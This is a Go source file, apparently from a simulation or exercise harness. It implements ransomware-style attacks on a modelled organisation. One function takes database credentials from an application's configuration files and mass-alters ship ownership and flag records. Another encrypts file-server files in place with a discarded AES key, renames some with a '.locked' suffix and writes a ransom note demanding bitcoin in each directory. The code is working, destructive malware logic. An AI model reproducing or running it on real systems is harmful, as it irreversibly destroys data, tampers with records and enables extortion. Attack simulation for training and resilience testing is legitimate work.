package attack

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io/fs"
	mathrand "math/rand/v2"
	"path"
	"path/filepath"
	"strings"
	"time"

	"github.com/jackc/pgx/v5"
)

const (
	alteredRows = 3200
	// Files encrypted in place, and files that are renamed too. Where there are fewer, one in three and one in six.
	encryptedFiles, renamedFiles = 420, 170
	minEncrypted, maxEncrypted   = 512, 8 << 20 // bytes of a file worth it
	lockedSuffix                 = ".locked"
	noteName                     = "HOW_TO_RECOVER_FILES.txt"
)

const note = `!!! YOUR FILES HAVE BEEN ENCRYPTED !!!

All documents of your organisation were encrypted with a strong algorithm.
To get the decryption key you must pay 12 BTC to the wallet named on our page.
Do not try to restore files yourself. You have 72 hours, then the price doubles.
Contact: ghost-anchor@onion.example   Your ID: 7F3A-91C2
`

// Altered is what AlterRows did.
type Altered struct {
	Database, Table string
	Rows            int
	XID             uint64
	Time            time.Time
}

// AlterRows changes flag and owner of thousands of ships in one transaction, with the credentials that lie in the
// application's configuration.
func (a *Attacker) AlterRows(ctx context.Context) (Altered, error) {
	done, err := a.alterRows(ctx)
	if err != nil {
		return Altered{}, fmt.Errorf("alter rows: %w", err)
	}
	return done, nil
}

func (a *Attacker) alterRows(ctx context.Context) (Altered, error) {
	config, err := a.credentials("gisis")
	if err != nil {
		return Altered{}, err
	}
	config.DialFunc = dialer("").DialContext
	conn, err := pgx.ConnectConfig(ctx, config)
	if err != nil {
		return Altered{}, err
	}
	defer conn.Close(ctx)
	done := Altered{Database: config.Database, Table: "ships", Time: time.Now().UTC()}
	var xid string
	err = conn.QueryRow(ctx, `WITH altered AS (
			UPDATE ships SET flag = 'Stateless', owner = (SELECT min(id) FROM companies)
			WHERE imo IN (SELECT imo FROM ships ORDER BY md5(imo::text) LIMIT $1) RETURNING 1)
		SELECT count(*), pg_current_xact_id()::text FROM altered`, alteredRows).Scan(&done.Rows, &xid)
	if err != nil {
		return Altered{}, err
	}
	if _, err := fmt.Sscan(xid, &done.XID); err != nil {
		return Altered{}, err
	}
	return done, nil
}

// credentials reads them from the configuration that an application of the service is started with.
func (a *Attacker) credentials(service string) (*pgx.ConnConfig, error) {
	name, err := a.inside(filepath.Join(a.dir, "london", service, "conf", "application.json"))
	if err != nil {
		return nil, err
	}
	data, err := a.root.ReadFile(name)
	if err != nil {
		return nil, err
	}
	var found struct {
		Connect      string `json:"connect"`
		PasswordFile string `json:"password_file"`
	}
	if err := json.Unmarshal(data, &found); err != nil {
		return nil, err
	}
	passwordFile, err := a.inside(found.PasswordFile)
	if err != nil {
		return nil, err
	}
	password, err := a.root.ReadFile(passwordFile)
	if err != nil {
		return nil, err
	}
	config, err := pgx.ParseConfig(found.Connect)
	if err != nil {
		return nil, err
	}
	config.Password = strings.TrimSpace(string(password))
	return config, nil
}

// Encryption says what Encrypt may do.
type Encryption struct {
	Seed  uint64                 // the choice of files follows from it
	Spare func(path string) bool // absolute paths that are left alone; nil spares none
}

// Encrypted is what Encrypt did, in absolute paths.
type Encrypted struct {
	InPlace []string
	Renamed map[string]string // from the old path to the new
	Notes   []string
}

// Encrypt encrypts files of the file server in place, directory by directory, with a key that nobody keeps; some it
// renames too. In each directory it leaves a note.
func (a *Attacker) Encrypt(ctx context.Context, opt Encryption) (Encrypted, error) {
	done, err := a.encrypt(ctx, opt)
	if err != nil {
		return done, fmt.Errorf("encrypt files: %w", err)
	}
	return done, nil
}

func (a *Attacker) encrypt(ctx context.Context, opt Encryption) (Encrypted, error) {
	done := Encrypted{Renamed: map[string]string{}}
	directories, total, err := a.victims(ctx, opt)
	if err != nil {
		return done, err
	}
	inPlace, renamed := min(encryptedFiles, total/3), min(renamedFiles, total/6)
	key := make([]byte, 32)
	rand.Read(key)
	block, err := aes.NewCipher(key)
	if err != nil {
		return done, err
	}
	for _, files := range directories {
		for _, name := range files {
			if err := ctx.Err(); err != nil {
				return done, err
			}
			if len(done.InPlace) >= inPlace && len(done.Renamed) >= renamed {
				break
			}
			if err := a.rewrite(name, func(old []byte) ([]byte, error) { return scramble(block, old), nil }); err != nil {
				return done, err
			}
			if len(done.InPlace) < inPlace {
				done.InPlace = append(done.InPlace, filepath.Join(a.dir, name))
				continue
			}
			if err := a.root.Rename(name, name+lockedSuffix); err != nil {
				return done, err
			}
			done.Renamed[filepath.Join(a.dir, name)] = filepath.Join(a.dir, name+lockedSuffix)
		}
		where := path.Join(path.Dir(files[0]), noteName)
		if err := a.root.WriteFile(where, []byte(note), 0o644); err != nil {
			return done, err
		}
		done.Notes = append(done.Notes, filepath.Join(a.dir, where))
		if len(done.InPlace) >= inPlace && len(done.Renamed) >= renamed {
			return done, nil
		}
	}
	return done, nil
}

func scramble(block cipher.Block, data []byte) []byte {
	iv := make([]byte, aes.BlockSize)
	rand.Read(iv)
	out := make([]byte, len(data))
	cipher.NewCTR(block, iv).XORKeyStream(out, data)
	return out
}

// victims lists the files worth encrypting by directory, the directories in an order that follows from the seed.
func (a *Attacker) victims(ctx context.Context, opt Encryption) (directories [][]string, total int, err error) {
	top, err := a.shares()
	if err != nil {
		return nil, 0, err
	}
	index := map[string]int{}
	err = fs.WalkDir(a.root.FS(), top, func(name string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if ctx.Err() != nil || !d.Type().IsRegular() {
			return ctx.Err()
		}
		info, err := d.Info()
		if err != nil || info.Size() < minEncrypted || info.Size() > maxEncrypted {
			return err
		}
		if opt.Spare != nil && opt.Spare(filepath.Join(a.dir, name)) {
			return nil
		}
		dir := path.Dir(name)
		if _, known := index[dir]; !known {
			index[dir] = len(directories)
			directories = append(directories, nil)
		}
		directories[index[dir]] = append(directories[index[dir]], name)
		total++
		return nil
	})
	if err != nil {
		return nil, 0, err
	}
	r := mathrand.New(mathrand.NewPCG(opt.Seed, 10))
	r.Shuffle(len(directories), func(i, j int) { directories[i], directories[j] = directories[j], directories[i] })
	return directories, total, nil
}

// shares is the root of the file server's tree, as its own probe names it.
func (a *Attacker) shares() (string, error) {
	service, err := a.estate.Service("fileserver")
	if err != nil {
		return "", err
	}
	for _, p := range service.Probes {
		if p.Kind == "files" {
			return a.inside(filepath.Dir(p.Path))
		}
	}
	return "", fmt.Errorf("service %s declares no files", service.Name)
}
